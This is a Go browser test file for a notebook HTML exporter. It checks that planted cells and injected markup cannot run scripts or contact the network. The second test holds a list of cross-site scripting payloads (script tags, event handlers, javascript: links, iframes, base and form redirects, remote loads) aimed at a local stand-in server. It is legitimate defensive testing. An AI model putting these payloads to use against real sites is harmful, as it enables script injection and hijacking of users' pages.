package pages

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"

	"github.com/schedlab/schedlab/notebooks/internal/export"
	"github.com/schedlab/schedlab/notebooks/internal/export/exporttest"
	"github.com/schedlab/schedlab/notebooks/internal/nb"
)

// An outside stands for the network, and remembers what it was asked.
type outside struct {
	*httptest.Server
	mu    sync.Mutex
	asked []string
}

func newOutside(t *testing.T) *outside {
	o := &outside{}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		defer o.mu.Unlock()
		o.asked = append(o.asked, r.URL.Path)
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, "planted()")
	}))
	t.Cleanup(o.Close)
	return o
}

func (o *outside) quiet(t *testing.T) {
	t.Helper()
	o.mu.Lock()
	defer o.mu.Unlock()
	if len(o.asked) > 0 {
		t.Errorf("the page asked the network for %q", o.asked)
	}
}

// watched opens a page in which the function planted exists, and which keeps
// what its policy stopped.
func watched(t *testing.T, path string) *tab {
	t.Helper()
	tb := open(t)
	tb.run(t, call(page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `
		globalThis.hits = 0; globalThis.stopped = [];
		globalThis.planted = () => { hits++ };
		document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));`}),
		visit(path))
	tb.wait(t, "the page is whole", `document.readyState`, "complete")
	return tb
}

// provoke does to a page what a reader may do to it.
const provoke = `(() => {
	for (const e of document.querySelectorAll('main *')) {
		for (const name of ['click', 'error', 'load', 'focus', 'toggle']) if (e.localName !== 'a') e.dispatchEvent(new Event(name));
	}
	for (const a of document.querySelectorAll('main a')) if (!/^(https|file):$/.test(a.protocol)) a.click();
	for (const f of document.querySelectorAll('form')) f.submit();
	return 'done';
})()`

// alive checks that what belongs to the page works.
func (tb *tab) alive(t *testing.T) {
	t.Helper()
	tb.wait(t, "the figure is drawn", `document.querySelector(".figure").textContent`, "light </script> & é")
	tb.run(t, click("#theme"))
	tb.wait(t, "the theme switch works", `document.querySelector(".figure").textContent`, "dark </script> & é")
	tb.wait(t, "the figures' queue is theirs", `Array.isArray(globalThis.schedlab.queue)`, "true")
}

// attacked is the page of a chapter with a figure and the planted cells, whose
// addresses lead to o.
func attacked(t *testing.T, o *outside) string {
	t.Helper()
	dir, chapters := exporttest.Series(t)
	n, err := nb.Read(filepath.Join(dir, "00-start.ipynb"))
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range exporttest.Planted() {
		c.ID = fmt.Sprintf("planted-%d", i)
		c.Source = strings.ReplaceAll(c.Source, "https://example.org", o.URL)
		n.Cells = append(n.Cells, c)
	}
	if err := n.Write(chapters[0].Path); err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	if _, err := export.HTML(t.Context(), exporttest.Env(t, chapters), out, chapters[:1]); err != nil {
		t.Fatal(err)
	}
	return filepath.Join(out, "00-start.html")
}

func TestWhatIsPlantedInATextDoesNothingInABrowser(t *testing.T) {
	o := newOutside(t)
	path := attacked(t, o)
	tb := watched(t, path)
	tb.eval(t, provoke)
	tb.alive(t)
	if hits := tb.eval(t, `hits`); hits != "0" {
		t.Errorf("%s planted scripts ran", hits)
	}
	if at := tb.eval(t, `location.protocol + document.baseURI.slice(0, 5)`); at != "file:file:" {
		t.Errorf("the page went away to %s", at)
	}
	if stopped := tb.eval(t, `String(stopped)`); stopped != "" {
		t.Errorf("the cleaning left to the policy: %s", stopped)
	}
	o.quiet(t)
}

// Should something slip past the cleaning, the policy holds. What it cannot
// stop, and the cleaning must, is a page that goes elsewhere: meta refresh.
func TestAScriptThatSlippedPastTheCleaningIsStoppedByThePolicy(t *testing.T) {
	o := newOutside(t)
	path := attacked(t, o)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	slipped := []string{
		`<script>planted()</script>`,
		`<script src="` + o.URL + `/script.js"></script>`,
		`<script type="module">import "` + o.URL + `/module.js"</script>`,
		`<img src="x" onerror="planted()"><img src="` + o.URL + `/picture.png">`,
		`<svg onload="planted()"><script>planted()</script></svg>`,
		`<a href="javascript:planted()">a</a>`,
		`<iframe srcdoc="<script>parent.planted()</script>"></iframe><iframe src="` + o.URL + `/frame"></iframe>`,
		`<object data="` + o.URL + `/object"></object>`,
		`<base href="` + o.URL + `/">`,
		`<form action="` + o.URL + `/form"><input name="q"></form>`,
		`<style>@import "` + o.URL + `/style.css"; main { background: url(` + o.URL + `/background.png) }</style>`,
		`<link rel="stylesheet" href="` + o.URL + `/link.css"><link rel="preload" as="script" href="` + o.URL + `/preload.js">`,
		`<video src="` + o.URL + `/video.mp4" poster="` + o.URL + `/poster.png"></video>`,
		`<script>fetch("` + o.URL + `/fetch"); new Function("planted()")(); eval("planted()")</script>`,
	}
	html := strings.Replace(string(b), "</main>", strings.Join(slipped, "\n")+"</main>", 1)
	if err := os.WriteFile(path, []byte(html), 0o644); err != nil {
		t.Fatal(err)
	}
	tb := watched(t, path)
	tb.eval(t, provoke)
	tb.alive(t)
	if hits := tb.eval(t, `hits`); hits != "0" {
		t.Errorf("%s planted scripts ran", hits)
	}
	if base := tb.eval(t, `document.baseURI.slice(0, 5)`); base != "file:" {
		t.Errorf("links start from %s", base)
	}
	stopped := strings.Split(tb.eval(t, `String(stopped)`), ",")
	for _, directive := range []string{"script-src-elem", "script-src-attr", "img-src", "frame-src", "object-src", "base-uri", "form-action", "style-src-elem", "media-src"} {
		if !slices.Contains(stopped, directive) {
			t.Errorf("nothing was stopped by %s: %q", directive, stopped)
		}
	}
	o.quiet(t)
}
